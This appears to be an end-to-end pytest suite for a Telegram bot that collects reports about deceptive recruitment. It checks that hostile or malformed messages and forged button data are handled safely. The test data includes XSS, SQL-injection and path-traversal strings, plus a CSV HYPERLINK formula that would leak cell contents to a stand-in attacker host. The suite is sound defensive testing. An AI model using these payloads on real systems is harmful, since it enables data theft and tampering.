"""Bad input, end to end: what people (and forgers) send that a bot does not expect.

For every case: the bot stays up, Telegram (the fake server, stricter than the real one about
HTML) accepts everything the bot sends, nothing is logged as an ERROR (the `start_bot` fixture
fails the test otherwise), nobody is shown the "something went wrong" apology, and the same
user's next question gets the right answer.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from bot import export
from bot.language import resolve_language
from bot.questions import answer_question
from fakeapi import FakeChannel, FakeGroup, FakeTelegramServer, FakeUser, SentMessage
from fakeapi.html import utf16_len

pytestmark = pytest.mark.e2e

REFERENCE = re.compile(r"R-[23456789ABCDEFGHJKMNPQRSTVWXYZ]{4}-[23456789ABCDEFGHJKMNPQRSTVWXYZ]{4}")
QUESTION = "What do recruiters promise?"


def arabic_4096() -> str:
    words = "هل هذا العرض للعمل حارسا في روسيا حقيقي؟ وعدوني براتب كبير وجنسية "
    return (words * 100)[:4096]


def emoji_4096() -> str:
    text = "🪖💰🇷🇺✈️ " * 700
    while utf16_len(text) > 4096:
        text = text[:-1]
    return text


HOSTILE_TEXTS = {
    "html": "<b>Is this legal?</b> & <i>they</i> said <script>alert(1)</script> &amp; &#0; <a href=\"javascript:x\">x</a> <",
    "rtl_override": "\u202eIs this offer real?\u202c it came as cod.exe \u2066\u2069\u200f",
    "nul_bytes": "What do they\x00 promise?\x00\x00",
    "arabic_4096": arabic_4096(),
    "emoji_4096": emoji_4096(),
    "sql": "'; DROP TABLE reports;-- \" OR 1=1 --",
    "csv_formula": '=HYPERLINK("http://evil.example/?d="&A1,"Click for your visa")',
    "zalgo": "Z\u0334\u0321\u0322\u031ba\u0336l\u0335g\u0337o\u0338 job in Russia?",
}


def expected_answer(bot, text: str, app_language: str = "en") -> str:
    svc = bot.services
    lang = resolve_language(text, None, app_language, svc.settings.default_language)
    return answer_question(svc.knowledge, svc.renderer, svc.matcher, text, lang).text


def apologies(bot, server: FakeTelegramServer) -> list[SentMessage]:
    """Messages that are the error handler's apology, in any language."""
    texts = {bot.services.renderer.html(lang, "common/error") for lang in ("en", "ar")}
    return [m for m in server.sent_messages() if m.html in texts]


async def answered_right_next(bot, server: FakeTelegramServer, user: FakeUser) -> None:
    """The user's next question gets the right answer (after whatever came before)."""
    await server.wait_idle(quiet=0.3)
    answer = await user.ask(QUESTION)
    assert answer.html == expected_answer(bot, QUESTION, user.language_code or "en"), answer.text
    assert apologies(bot, server) == []


@pytest.mark.parametrize("name", HOSTILE_TEXTS)
async def test_hostile_text_is_answered_in_html_telegram_accepts(start_bot, fake_api: FakeTelegramServer, name):
    bot = await start_bot()
    user = FakeUser(fake_api, "Mallory", language_code="ar" if name == "arabic_4096" else "en")
    reply = await user.ask(HOSTILE_TEXTS[name])
    assert reply.parse_mode == "HTML" and reply.text
    await answered_right_next(bot, fake_api, user)


@pytest.mark.parametrize("name", ["html", "rtl_override", "nul_bytes", "sql", "csv_formula", "zalgo"])
async def test_hostile_text_in_a_report_is_stored_as_typed_and_exported_safely(
        start_bot, fake_api: FakeTelegramServer, name):
    bot = await start_bot()
    user = FakeUser(fake_api, "Mallory")
    text = HOSTILE_TEXTS[name]
    await user.ask("/report")
    await user.click("report:quick")
    review = await user.ask(text)
    submit = next(d for d in review.callback_data if d.startswith("report:submit:"))
    done = await user.click(submit)
    reference = REFERENCE.search(done.text).group()

    def read(db):
        tables = set(db.table_names())
        rows = list(db.query("select reference, description from reports"))
        out = io.BytesIO()
        export.write_export(db, out, "csv")
        return tables, rows, out.getvalue()

    tables, rows, exported = await bot.services.store.run(read)
    assert {"reports", "drafts", "users"} <= tables
    assert rows == [{"reference": reference, "description": text}]
    [record] = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    assert record["description"] in (text, "'" + text)
    assert not record["description"].startswith(("=", "+", "-", "@"))
    await user.ask("/cancel")
    await answered_right_next(bot, fake_api, user)


async def test_an_over_long_description_is_refused_plainly(start_bot, fake_api: FakeTelegramServer):
    bot = await start_bot()
    user = FakeUser(fake_api, "Mallory", language_code="ar")
    await user.ask("/report")
    await user.click("report:quick")
    notice = await user.ask(arabic_4096())
    assert "report:cancel" in notice.callback_data and not any(d.startswith("report:submit:")
                                                               for d in notice.callback_data)
    assert await bot.services.store.run(lambda db: db["reports"].count) == 0
    await user.ask("/cancel")
    await answered_right_next(bot, fake_api, user)


@pytest.mark.parametrize("kind", ["sticker", "location", "voice", "contact", "dice"])
async def test_media_gets_a_reply_saying_what_the_bot_reads(start_bot, fake_api: FakeTelegramServer, kind):
    bot = await start_bot()
    user = FakeUser(fake_api, "Sam")
    if kind == "sticker":
        await user.send_sticker()
    elif kind == "location":
        await user.send_location()
    elif kind == "voice":
        await user.send_voice()
    elif kind == "contact":
        await user.send_raw(contact={"phone_number": "+962790000000", "first_name": "Recruiter"})
    else:
        await user.send_raw(dice={"emoji": "🎲", "value": 3})
    reply = await user.wait_reply()
    assert reply.html == bot.services.renderer.html("en", "common/unsupported")
    await answered_right_next(bot, fake_api, user)


async def test_an_edited_question_does_not_confuse_the_bot(start_bot, fake_api: FakeTelegramServer):
    bot = await start_bot()
    user = FakeUser(fake_api, "Sam")
    question = await user.send("What do recuiters promise")
    await user.wait_reply()
    await user.edit(question, QUESTION)
    await fake_api.wait_idle(quiet=0.3)
    await answered_right_next(bot, fake_api, user)


async def test_channel_posts_and_unaddressed_group_talk_get_no_reply(start_bot, fake_api: FakeTelegramServer):
    bot = await start_bot()
    channel = FakeChannel(fake_api, "News", username="news_channel")
    post = await channel.post("Guards wanted in Russia! $3000 a month. Write @recruiter_x")
    await channel.edit_post(post, "Guards wanted in Russia! $4000 a month.")
    group = FakeGroup(fake_api, "Family")
    member = FakeUser(fake_api, "Uncle")
    await member.send(QUESTION, chat=group)
    await member.send_sticker(chat=group)
    await member.send_location(chat=group)
    await fake_api.wait_idle(quiet=0.5)
    assert fake_api.sent_messages(channel.id) == []
    assert [m.text for m in fake_api.sent_messages(group.id)] == []
    await answered_right_next(bot, fake_api, FakeUser(fake_api, "Sam"))


async def test_a_user_who_blocks_the_bot_mid_report_does_not_break_it(start_bot, fake_api: FakeTelegramServer):
    bot = await start_bot()
    user, other = FakeUser(fake_api, "Leaving"), FakeUser(fake_api, "Staying")
    await user.ask("/report")
    await user.click("report:quick")
    user.block_bot()
    await user.send("They wanted my passport.")
    await fake_api.wait_for(lambda: fake_api.stats.blocked, timeout=5, what="the refused send")
    await answered_right_next(bot, fake_api, other)
    # Back later: the draft kept what they wrote.
    user.unblock_bot()
    resumed = await user.ask("/report")
    assert "They wanted my passport." in resumed.text
    assert any(d.startswith("report:submit:") for d in resumed.callback_data)
    await user.ask("/cancel")
    await answered_right_next(bot, fake_api, user)


GARBAGE_DATA = ["", "\x00", "x" * 65, "x" * 300, "💣" * 40, "topic:", "topic:nope", "topic:../../etc",
                "report:submit:" + "A" * 30, "report:submit:", "report:chan:pigeon", "report:edit:x",
                "report:forget:maybe", "adm:show:1", "adm:st:1:n:c:a", "adm:pg:-1", "relay:ans:1",
                "relay:ans:99999999999999999999", "sub:yes:extra", "lang:set:fr", "lang:set:",
                "menu:all:x", "check:yes:", "check:dismiss:../x", "'; DROP TABLE reports;--",
                "=HYPERLINK(\"x\")", "\u202eadm:show:1"]


async def test_garbage_and_over_long_button_data_is_answered_and_ignored(start_bot, fake_api: FakeTelegramServer):
    bot = await start_bot()
    user = FakeUser(fake_api, "Forger")
    await user.ask("/start")
    queries = [await user.press_data(data) for data in GARBAGE_DATA]
    await fake_api.wait_idle(quiet=0.5)
    assert [q for q in queries if not fake_api.callback_queries[q].answered] == []
    assert apologies(bot, fake_api) == []
    assert await bot.services.store.run(lambda db: (db["reports"].count, db["audit"].count)) == (0, 0)
    await answered_right_next(bot, fake_api, user)


async def test_buttons_of_someone_elses_report_reveal_and_change_nothing(start_bot, fake_api: FakeTelegramServer):
    bot = await start_bot()
    owner, stranger = FakeUser(fake_api, "Owner"), FakeUser(fake_api, "Stranger")
    secret = "The recruiter is my cousin Ahmad, he lives on Rainbow Street."
    await owner.ask("/report")
    await owner.click("report:quick")
    review = await owner.ask(secret)
    submit = next(d for d in review.callback_data if d.startswith("report:submit:"))

    # The stranger replays the owner's Submit (and other buttons) before the owner submits...
    await stranger.ask("/start")
    for data in (submit, "report:edit:description", "report:cancel"):
        await stranger.press_data(data)
    await fake_api.wait_idle(quiet=0.3)
    assert await bot.services.store.run(lambda db: db["reports"].count) == 0
    done = await owner.click(submit)  # the owner's draft is intact
    reference = REFERENCE.search(done.text).group()
    [report_id] = await bot.services.store.run(lambda db: [r["id"] for r in db.query("select id from reports")])

    # ...and after: Submit again, the relay's answer button, the admin's buttons for that report.
    for data in (submit, f"relay:ans:{report_id}", f"adm:show:{report_id}", f"adm:st:{report_id}:n:c:a"):
        await stranger.press_data(data)
    await fake_api.wait_idle(quiet=0.3)
    seen = " ".join(m.text or "" for m in fake_api.sent_messages(stranger.id))
    assert reference not in seen and "Ahmad" not in seen and "Rainbow" not in seen
    rows = await bot.services.store.run(lambda db: list(db.query("select status, reporter_key from reports")))
    assert rows == [{"status": "new", "reporter_key": bot.services.user_key(owner.id)}]
    assert fake_api.unanswered_callbacks() == []
    await answered_right_next(bot, fake_api, stranger)


async def test_an_update_python_telegram_bot_cannot_read_is_skipped_not_fatal(bot_process, fake_api: FakeTelegramServer):
    process = bot_process()
    await fake_api.wait_for_call("getUpdates", timeout=20)
    user = FakeUser(fake_api, "Pollster", id=918273001)
    # As an older self-hosted Bot API server sends it: a poll without fields this
    # python-telegram-bot requires. Unhandled, it would stall polling on its batch for good.
    await user.send_raw(poll={"id": "1", "question": "Shall I sign the contract?", "options": [
        {"text": "yes", "voter_count": 0}, {"text": "no", "voter_count": 0}], "total_voter_count": 0,
        "is_closed": False, "is_anonymous": True, "type": "regular", "allows_multiple_answers": False})
    mark = fake_api.mark()
    welcome = await user.ask("/start", timeout=10)
    assert welcome.buttons
    assert len(fake_api.calls_to("getUpdates", after=mark)) < 20  # no busy loop on the bad batch
    assert await process.stop() == 0
    output = process.output()
    assert "skipped update" in output
    assert " CRITICAL " not in output and " ERROR " not in output, output
    assert "Shall I sign" not in output and "918273001" not in output
